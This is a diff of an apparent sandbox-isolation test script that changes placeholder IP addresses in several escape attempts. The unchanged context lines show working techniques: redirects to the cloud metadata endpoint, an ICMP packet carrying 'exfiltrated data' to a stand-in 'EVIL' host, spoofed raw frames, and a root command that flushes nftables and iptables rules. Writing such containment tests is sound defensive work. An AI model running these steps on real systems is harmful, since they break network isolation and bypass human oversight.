@@ -2,7 +2,7 @@
 An attempt that got through says LEAK."""
 import json, os, random, socket, ssl, string, struct, subprocess, sys, time
 
-API, EVIL, HOST = "203.0.113.11", "203.0.113.12", "203.0.113.1"
+API, EVIL, HOST = "198.51.100.11", "198.51.100.12", "198.51.100.1"
 GATEWAY = "10.53.0.1"
 results = {}
 
@@ -160,7 +160,7 @@ def follow(url):
 
 
 attempt("redirect to metadata")(lambda: follow("http://api.test/redirect?to=http://169.254.169.254/"))
-attempt("redirect to the host")(lambda: follow("http://api.test/redirect?to=http://203.0.113.1/"))
+attempt("redirect to the host")(lambda: follow("http://api.test/redirect?to=http://198.51.100.1/"))
 attempt("redirect to a site that is not allowed")(lambda: follow("http://api.test/redirect?to=http://evil.test/"))
 
 
@@ -191,7 +191,7 @@ body = struct.pack(">BBHHH", 8, 0, 0, 1, 1) + b"exfiltrated data"
 total = sum(struct.unpack(">%dH" % (len(body) // 2), body))
 total = (total >> 16) + (total & 0xffff)
 body = body[:2] + struct.pack(">H", ~(total + (total >> 16)) & 0xffff) + body[4:]
-s.sendto(body, ("203.0.113.11", 0))
+s.sendto(body, ("198.51.100.11", 0))
 while True:
     got = s.recv(1000)
     if got[20] == 0: print("LEAK: echo reply"); break
@@ -230,7 +230,7 @@ def frames():
 import socket, struct
 s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
 s.bind(("eth0", 0))
-for destination in ("203.0.113.1", "169.254.169.254", "127.0.0.1", "10.53.0.1"):
+for destination in ("198.51.100.1", "169.254.169.254", "127.0.0.1", "10.53.0.1"):
     ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28, 1, 0, 64, 17, 0, socket.inet_aton("10.53.0.2"), socket.inet_aton(destination))
     total = sum(struct.unpack(">10H", ip)); total = (total & 0xffff) + (total >> 16); total = (total & 0xffff) + (total >> 16)
     ip = ip[:10] + struct.pack(">H", ~total & 0xffff) + ip[12:]
@@ -243,7 +243,7 @@ for destination in ("203.0.113.1", "169.254.169.254", "127.0.0.1", "10.53.0.1"):
 
 @attempt("turning the firewall off inside")
 def inside():
-    root("nft flush ruleset; iptables -F; sysctl -w net.ipv6.conf.all.disable_ipv6=0; ip route add 203.0.113.0/24 via 10.53.0.1")
+    root("nft flush ruleset; iptables -F; sysctl -w net.ipv6.conf.all.disable_ipv6=0; ip route add 198.51.100.0/24 via 10.53.0.1")
     return tcp(EVIL, 80)
 
 
